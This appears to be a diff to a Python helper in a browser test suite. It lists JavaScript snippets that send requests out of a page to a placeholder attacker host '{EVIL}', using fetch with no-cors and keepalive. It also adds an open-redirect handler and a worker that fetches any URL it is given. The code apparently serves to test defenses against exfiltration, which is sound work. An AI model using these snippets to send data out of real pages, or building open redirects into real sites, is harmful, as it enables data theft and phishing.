@@ -1,5 +1,7 @@
 """Ways out of a page for code that runs in it, each to ``{EVIL}/NAME``; ``{WS}`` is the same by web socket."""
 
+from tests.browser.site import Asked, Reply
+
 IN_PAGE = {
     "fetch": "fetch('{U}',{{mode:'no-cors'}}).catch(()=>0)",
     "fetch-keepalive": "fetch('{U}',{{mode:'no-cors',keepalive:true,method:'POST',body:'x'}}).catch(()=>0)",
@@ -95,3 +97,14 @@ def codes(group: dict[str, str], evil: str) -> dict[str, str]:
         name: "(()=>{" + text.format(U=f"{evil}/{name}", WS=f"{socket}/{name}") + "})()"
         for name, text in group.items()
     }
+
+
+def away(asked: Asked) -> Reply:
+    """A place of the site itself that leads to ``to``."""
+    return Reply(status=302, headers=(("location", asked.query["to"]),))
+
+
+def job(asked: Asked) -> Reply:
+    """A worker that asks ``to``."""
+    text = f"self.onconnect=()=>0;fetch('{asked.query['to']}',{{mode:'no-cors'}}).catch(()=>0)"
+    return Reply(text, "text/javascript")
